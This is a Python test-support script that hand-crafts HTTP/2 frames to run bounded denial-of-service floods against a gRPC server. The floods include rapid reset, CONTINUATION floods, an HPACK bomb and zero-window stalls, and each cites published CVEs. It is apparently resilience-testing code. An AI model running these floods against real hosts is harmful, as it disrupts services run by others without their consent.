"""Floods of HTTP/2 by hand-made frames, bounded in count and in time; each stops by itself.

    python -m tests.support.http2_attacker rapid_reset 127.0.0.1 50051 --seconds 3

It prints what became of it as one line of JSON: frames and bytes sent, connections that the server
closed. No library of HTTP/2 is used, because those refuse to send what these send.
Source: RFC 9113 and 7541; CVE-2023-44487, CVE-2024-27316 (and its kin), CVE-2025-8671,
CVE-2019-9512, 9515, 9517, CVE-2016-6581.
"""

import argparse
import asyncio
import contextlib
import json
import random
import struct
import sys
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
ACK: Final = 0x1
CANCEL: Final = struct.pack(">I", 8)
INITIAL_WINDOW_SIZE: Final = 4
FRAME_BYTES_MAX: Final = 16_384

CHECK: Final = "/heed.v1.PreferenceService/CheckSuppression"
REQUEST: Final = b"\x00" + struct.pack(">I", 0)
"""A gRPC message without a field: refused as INVALID_ARGUMENT, after all the work of a call."""

CALLS_OF_CONNECTION_MAX: Final = 1_024
STAY_SECONDS: Final = 3_600
FRAMES_MAX: Final = 2_000_000
BYTES_MAX: Final = 512 << 20


@dataclass
class Sent:
    """What an attack came to."""

    connections: int = 0
    frames: int = 0
    sent_bytes: int = 0
    closed_by_server: int = 0


class SpentError(Exception):
    """The attack has sent all that it may, or for as long."""


class Attacker:
    """One connection, over which anything may be sent."""

    def __init__(
        self,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        sent: Sent,
        ends_at: float,
    ) -> None:
        """`ends_at`, on the loop's clock: a peer that reads all leaves the loop no turn to say so."""
        self.writer = writer
        self.sent = sent
        self._reader = reader
        self._ends_at = ends_at
        self._stream = -1

    def next_stream(self) -> int:
        self._stream += 2
        return self._stream

    def frame(self, kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
        self.sent.frames += 1
        return (
            struct.pack(">I", len(payload))[1:]
            + struct.pack(">BBI", kind, flags, stream)
            + (payload)
        )

    async def send(self, data: bytes) -> None:
        """Send, and wait where the server does not read."""
        self.sent.sent_bytes += len(data)
        is_late = asyncio.get_running_loop().time() > self._ends_at
        if is_late or self.sent.frames > FRAMES_MAX or self.sent.sent_bytes > BYTES_MAX:
            raise SpentError
        self.writer.write(data)
        await self.writer.drain()

    async def begin(self, settings: bytes = b"") -> None:
        await self.send(PREFACE + self.frame(SETTINGS, 0, 0, settings))

    async def discard(self) -> None:
        """Read what comes, answer SETTINGS and PING as an honest peer does, forget the rest."""
        while True:
            head = await self._reader.readexactly(9)
            length = int.from_bytes(head[:3])
            payload = await self._reader.readexactly(length) if length else b""
            if head[3] == PING and not head[4] & ACK:
                await self.send(self.frame(PING, ACK, 0, payload))
            elif head[3] == SETTINGS and not head[4] & ACK:
                await self.send(self.frame(SETTINGS, ACK, 0))


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """A header in HPACK, as it is; `indexed`: to be kept in the dynamic table."""
    return (b"\x40" if indexed else b"\x00") + _text(name) + _text(value)


def call_headers(path: str = CHECK) -> bytes:
    """The headers of a gRPC call."""
    return b"".join(
        literal(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path.encode()),
            (b":authority", b"localhost"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
        )
    )


def _text(value: bytes) -> bytes:
    if len(value) < 127:
        return bytes([len(value)]) + value
    left, length = len(value) - 127, bytearray([127])
    while left >= 128:
        length.append(left % 128 + 128)
        left //= 128
    length.append(left)
    return bytes(length) + value


async def rapid_reset(peer: Attacker) -> None:
    """Open streams and reset each at once."""
    await peer.begin()
    headers = call_headers()
    while True:
        batch = b""
        for _ in range(50):
            stream = peer.next_stream()
            batch += peer.frame(HEADERS, END_HEADERS, stream, headers)
            batch += peer.frame(RST_STREAM, 0, stream, CANCEL)
        await peer.send(batch)


async def made_you_reset(peer: Attacker) -> None:
    """Open streams, send the whole request, then what makes the server reset them itself."""
    await peer.begin()
    headers = call_headers()
    while True:
        batch = b""
        for _ in range(50):
            stream = peer.next_stream()
            batch += peer.frame(HEADERS, END_HEADERS, stream, headers)
            batch += peer.frame(DATA, END_STREAM, stream, REQUEST)
            batch += peer.frame(WINDOW_UPDATE, 0, stream, bytes(4))
        await peer.send(batch)


async def continuation(peer: Attacker) -> None:
    """Begin headers that never end."""
    await peer.begin()
    stream = peer.next_stream()
    await peer.send(peer.frame(HEADERS, 0, stream, call_headers()))
    part = literal(b"x-flood", b"a" * 16_000)
    while True:
        await peer.send(peer.frame(CONTINUATION, 0, stream, part))


async def empty_continuation(peer: Attacker) -> None:
    """The same, of frames that hold nothing."""
    await peer.begin()
    stream = peer.next_stream()
    await peer.send(peer.frame(HEADERS, 0, stream, call_headers()))
    while True:
        await peer.send(b"".join(peer.frame(CONTINUATION, 0, stream) for _ in range(200)))


async def settings(peer: Attacker) -> None:
    """Ask for the acknowledgement of settings without end."""
    await peer.begin()
    one = struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535)
    while True:
        await peer.send(b"".join(peer.frame(SETTINGS, 0, 0, one) for _ in range(200)))


async def ping(peer: Attacker) -> None:
    """Ask for the acknowledgement of pings without end."""
    await peer.begin()
    while True:
        await peer.send(b"".join(peer.frame(PING, 0, 0, bytes(8)) for _ in range(200)))


async def empty_data(peer: Attacker) -> None:
    """Send frames of data that hold none."""
    await peer.begin()
    stream = peer.next_stream()
    await peer.send(peer.frame(HEADERS, END_HEADERS, stream, call_headers()))
    while True:
        await peer.send(b"".join(peer.frame(DATA, 0, stream) for _ in range(200)))


async def zero_window(peer: Attacker) -> None:
    """Make as many calls as a connection may, give the answers no room, and stay."""
    await peer.begin(struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    headers = call_headers()
    for _ in range(CALLS_OF_CONNECTION_MAX):
        await peer.send(_call(peer, headers))
    await asyncio.sleep(STAY_SECONDS)


async def unread(peer: Attacker) -> None:
    """Call, and read nothing that comes."""
    await peer.begin()
    headers = call_headers()
    while True:
        await peer.send(_call(peer, headers))


async def large_headers(peer: Attacker) -> None:
    """Call with more metadata than is taken."""
    await peer.begin()
    block = call_headers() + literal(b"x-flood", b"a" * 60_000)
    while True:
        stream = peer.next_stream()
        parts = [block[at : at + FRAME_BYTES_MAX] for at in range(0, len(block), FRAME_BYTES_MAX)]
        batch = peer.frame(HEADERS, 0, stream, parts[0])
        for part in parts[1:-1]:
            batch += peer.frame(CONTINUATION, 0, stream, part)
        await peer.send(batch + peer.frame(CONTINUATION, END_HEADERS, stream, parts[-1]))


async def hpack_bomb(peer: Attacker) -> None:
    """Name one large header, kept in the table, sixteen thousand times in a call."""
    await peer.begin()
    large = literal(b"x-bomb", b"a" * 3_900, indexed=True)
    await peer.send(peer.frame(HEADERS, END_HEADERS, peer.next_stream(), call_headers() + large))
    block = call_headers() + bytes([0x80 | 62]) * 16_000
    while True:
        await peer.send(peer.frame(HEADERS, END_HEADERS, peer.next_stream(), block))


async def slow_preface(peer: Attacker) -> None:
    """Begin a connection, byte by byte."""
    for at in range(len(PREFACE)):
        await peer.send(PREFACE[at : at + 1])
        await asyncio.sleep(0.5)


async def garbage(peer: Attacker) -> None:
    """Send frames of random kinds, flags and contents."""
    await peer.begin()
    chance = random.Random(25)
    while True:
        payload = chance.randbytes(chance.randrange(200))
        await peer.send(
            peer.frame(chance.randrange(12), chance.randrange(256), chance.randrange(64), payload)
        )


def _call(peer: Attacker, headers: bytes) -> bytes:
    stream = peer.next_stream()
    return peer.frame(HEADERS, END_HEADERS, stream, headers) + peer.frame(
        DATA, END_STREAM, stream, REQUEST
    )


ATTACKS: Final[dict[str, tuple[Callable[[Attacker], Awaitable[None]], int, bool]]] = {
    "rapid_reset": (rapid_reset, 8, True),
    "made_you_reset": (made_you_reset, 8, True),
    "continuation": (continuation, 8, True),
    "empty_continuation": (empty_continuation, 8, True),
    "settings": (settings, 8, False),
    "ping": (ping, 8, False),
    "empty_data": (empty_data, 8, True),
    "zero_window": (zero_window, 16, True),
    "unread": (unread, 16, False),
    "large_headers": (large_headers, 8, True),
    "hpack_bomb": (hpack_bomb, 8, True),
    "slow_preface": (slow_preface, 1_000, True),
    "garbage": (garbage, 8, True),
}
"""Each by its name: what is done, over how many connections at a time, and whether what comes back
is read."""


async def attack(name: str, host: str, port: int, seconds: float) -> Sent:
    """Attack for so long, opening a connection anew for each that the server closes."""
    act, connections, reads = ATTACKS[name]
    sent = Sent()
    ends_at = asyncio.get_running_loop().time() + seconds

    async def again() -> None:
        while True:
            sent.connections += 1
            try:
                reader, writer = await asyncio.open_connection(host, port)
            except OSError:
                await asyncio.sleep(0.1)
                continue
            try:
                await _one(act, Attacker(reader, writer, sent, ends_at), reads=reads)
            except (OSError, asyncio.IncompleteReadError):
                sent.closed_by_server += 1
            finally:
                writer.transport.abort()
            await asyncio.sleep(0.01)

    with contextlib.suppress(TimeoutError, SpentError):
        async with asyncio.timeout_at(ends_at):
            await asyncio.gather(*(again() for _ in range(connections)))
    return sent


async def _one(act: Callable[[Attacker], Awaitable[None]], peer: Attacker, *, reads: bool) -> None:
    if not reads:
        await act(peer)
        return
    reading = asyncio.ensure_future(peer.discard())
    acting = asyncio.ensure_future(act(peer))
    try:
        done, _ = await asyncio.wait({reading, acting}, return_when=asyncio.FIRST_COMPLETED)
        for task in done:
            task.result()
    finally:
        for task in (reading, acting):
            task.cancel()
        await asyncio.gather(reading, acting, return_exceptions=True)


def main() -> None:
    """Attack, and say what became of it."""
    arguments = argparse.ArgumentParser()
    arguments.add_argument("attack", choices=sorted(ATTACKS))
    arguments.add_argument("host")
    arguments.add_argument("port", type=int)
    arguments.add_argument("--seconds", type=float, default=3.0)
    asked = arguments.parse_args()
    sent = asyncio.run(attack(asked.attack, asked.host, asked.port, asked.seconds))
    sys.stdout.write(json.dumps(asdict(sent)) + "\n")


if __name__ == "__main__":
    main()
